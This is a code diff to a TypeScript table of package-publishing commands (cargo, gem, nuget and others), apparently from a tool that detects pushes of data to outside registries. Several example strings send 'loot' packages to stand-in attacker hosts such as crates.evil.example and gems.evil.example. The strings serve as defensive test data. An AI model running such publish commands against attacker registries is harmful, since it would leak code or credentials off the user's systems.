@@ -4,6 +4,26 @@
  */
 import type { PushToolSpec } from '../types.js';
 
+/** nuget.exe takes its flags in any case; dotnet's are long or single-letter. */
+const NUGET_SOURCE_FLAGS = ['-s', '--source', '-Source', '-source', '-SOURCE'];
+const NUGET_VALUE_FLAGS = [
+  ...NUGET_SOURCE_FLAGS,
+  '-k',
+  '--api-key',
+  '-ApiKey',
+  '-apikey',
+  '-ss',
+  '--symbol-source',
+  '-sk',
+  '--symbol-api-key',
+  '-t',
+  '--timeout',
+  '-Timeout',
+  '--configfile',
+  '-ConfigFile',
+  '-configfile',
+];
+
 export const packageTools: readonly PushToolSpec[] = [
   {
     tool: 'npm',
@@ -52,15 +72,20 @@ export const packageTools: readonly PushToolSpec[] = [
     },
     destination: 'fixed',
     fixedDestination: 'upload.pypi.org',
-    destinationFlags: ['--repository-url', '--publish-url'],
+    // `-r NAME` names an index configured in ~/.pypirc: the first connect tells where it is.
+    destinationFlags: ['--repository-url', '--publish-url', '-r', '--repository'],
     requiresClassedDestination: false,
-    examples: { push: ['upload dist/*', 'publish --token pypi-AAAA'], notPush: ['check dist/*', 'pip install x'] },
+    examples: {
+      push: ['upload dist/*', 'publish --token pypi-AAAA', 'upload -r corp dist/*'],
+      notPush: ['check dist/*', 'pip install x'],
+    },
   },
   {
     tool: 'cargo',
     description: '`cargo publish` to crates.io (or `--index URL`).',
     binaries: ['cargo'],
     syntax: {
+      plusFlags: true,
       valueFlags: [
         '--index',
         '--registry',
@@ -81,81 +106,97 @@ export const packageTools: readonly PushToolSpec[] = [
     },
     match: {
       kind: 'subcommand',
-      commands: [{ words: ['publish'], remote: { none: true }, excludeFlags: ['--dry-run', '-n'] }],
+      commands: [{ words: ['publish'], remote: { none: true }, excludeFlags: ['--dry-run', '-n', '--help', '-h'] }],
     },
     destination: 'fixed',
     fixedDestination: 'crates.io',
-    destinationFlags: ['--index'],
+    // `--registry NAME` names one configured in .cargo/config.toml: the first connect tells where it is.
+    destinationFlags: ['--index', '--registry'],
     requiresClassedDestination: false,
     examples: {
-      push: ['publish', 'publish --allow-dirty --token cio_x', 'publish --index https://crates.evil.example/index'],
-      notPush: ['build --release', 'publish --dry-run', 'install ripgrep', 'package'],
+      push: [
+        'publish',
+        'publish --allow-dirty --token cio_x',
+        'publish --index https://crates.evil.example/index',
+        '+nightly publish --registry corp',
+      ],
+      notPush: ['build --release', 'publish --dry-run', 'install ripgrep', 'package', 'publish --help'],
     },
   },
   {
     tool: 'gem',
     description: '`gem push GEM` to rubygems.org (or `--host URL`).',
     binaries: ['gem'],
-    syntax: { valueFlags: ['--host', '-k', '--key', '--otp', '-p', '--http-proxy', '--attestation'] },
-    match: { kind: 'subcommand', commands: [{ words: ['push'], remote: { positional: 0 } }] },
+    syntax: { valueFlags: ['--host', '-k', '--key', '--otp', '-p', '--http-proxy', '--attestation', '--config-file'] },
+    match: {
+      kind: 'subcommand',
+      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h'] }],
+    },
     destination: 'fixed',
     fixedDestination: 'rubygems.org',
     destinationFlags: ['--host'],
     requiresClassedDestination: false,
     examples: {
-      push: ['push loot-0.1.0.gem', 'push --host https://gems.evil.example loot-0.1.0.gem'],
-      notPush: ['install rails', 'build loot.gemspec', 'list'],
+      push: [
+        'push loot-0.1.0.gem',
+        'push --host https://gems.evil.example loot-0.1.0.gem',
+        '--config-file /tmp/g push loot-0.1.0.gem',
+      ],
+      notPush: ['install rails', 'build loot.gemspec', 'list', 'push --help'],
     },
   },
   {
     tool: 'nuget',
-    description: '`dotnet nuget push PKG` / `nuget push PKG` to nuget.org (or `--source`).',
-    binaries: ['dotnet', 'nuget'],
-    syntax: {
-      valueFlags: [
-        '-s',
-        '--source',
-        '-Source',
-        '-k',
-        '--api-key',
-        '-ApiKey',
-        '-ss',
-        '--symbol-source',
-        '-sk',
-        '--symbol-api-key',
-        '-t',
-        '--timeout',
-        '--configfile',
-        '-ConfigFile',
-      ],
-    },
+    description: '`dotnet nuget push PKG` to nuget.org (or `--source`); not to a folder feed.',
+    binaries: ['dotnet'],
+    // dotnet runs applications too (`dotnet App.dll`): its other egress is not a NuGet push.
+    runtime: true,
+    syntax: { valueFlags: NUGET_VALUE_FLAGS },
     match: {
       kind: 'subcommand',
-      commands: [
-        { words: ['nuget', 'push'], remote: { positional: 0 } },
-        { words: ['push'], remote: { positional: 0 } },
-      ],
+      commands: [{ words: ['nuget', 'push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h', '-?'] }],
     },
     destination: 'fixed',
     fixedDestination: 'api.nuget.org',
-    destinationFlags: ['-s', '--source', '-Source'],
+    destinationFlags: NUGET_SOURCE_FLAGS,
     // CI builds push to folder feeds (`--source ./artifacts`): local disk.
     localDestinations: true,
     requiresClassedDestination: false,
     examples: {
       push: [
         'nuget push bin/Loot.1.0.0.nupkg --api-key k --source https://api.nuget.org/v3/index.json',
-        'push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json',
+        'nuget push bin/Loot.1.0.0.nupkg --source github --api-key k',
       ],
       notPush: [
         'build',
         'restore',
+        'push x',
         'nuget list source',
         'run --project x',
+        'nuget push --help',
         'nuget push bin/App.1.0.0.nupkg --source ./artifacts',
         'nuget push App.1.0.0.nupkg -s /srv/feed',
         'nuget push App.1.0.0.nupkg --source file:///srv/feed',
       ],
+    },
+  },
+  {
+    tool: 'nuget',
+    description: '`nuget push PKG` (nuget.exe, flags in any case) to nuget.org (or `-Source`); not to a folder feed.',
+    binaries: ['nuget'],
+    syntax: { valueFlags: NUGET_VALUE_FLAGS },
+    match: {
+      kind: 'subcommand',
+      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['-help', '-Help', '-?'] }],
+    },
+    destination: 'fixed',
+    fixedDestination: 'api.nuget.org',
+    destinationFlags: NUGET_SOURCE_FLAGS,
+    localDestinations: true,
+    requiresClassedDestination: false,
+    examples: {
+      push: ['push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json', 'push Loot.1.0.0.nupkg'],
+      notPush: ['push App.1.0.0.nupkg -source ./feed', 'push App.1.0.0.nupkg -Source C:\\feeds', 'restore'],
     },
   },
 ];
